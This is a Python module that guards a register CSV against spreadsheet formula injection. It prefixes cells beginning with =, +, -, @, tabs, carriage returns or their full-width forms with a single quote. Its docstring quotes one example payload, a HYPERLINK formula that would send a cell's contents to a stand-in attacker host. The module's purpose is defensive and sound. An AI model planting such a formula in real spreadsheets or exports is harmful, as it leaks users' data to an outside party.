"""CSV cells that a spreadsheet shows as text, never runs as a formula.

The register CSV is made for Excel, and its subject, sender and reference columns are
the sender's text: `=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")` in a subject
would be a live link (or worse, DDE) in the clerk's spreadsheet. As OWASP's "CSV
Injection" page recommends, a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a leading single quote, which Excel and LibreOffice show as text; the csv
module quotes cells with `"`, commas or line breaks. The full-width forms (＝＋－＠) are
neutralised too (Excel's East Asian input converts them), and so is a trigger behind
leading spaces."""
from __future__ import annotations

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise_cell(value: object) -> object:
    """The cell as written: text that would start a formula gets a leading `'`."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(_TRIGGERS) or value.lstrip(" \u00a0").startswith(_TRIGGERS):
        return "'" + value
    return value


class SafeWriter:
    """A csv writer whose every cell goes through `neutralise_cell`."""

    def __init__(self, writer) -> None:  # noqa: ANN001 (a csv.writer)
        self._writer = writer

    def writerow(self, row) -> None:  # noqa: ANN001
        self._writer.writerow([neutralise_cell(cell) for cell in row])
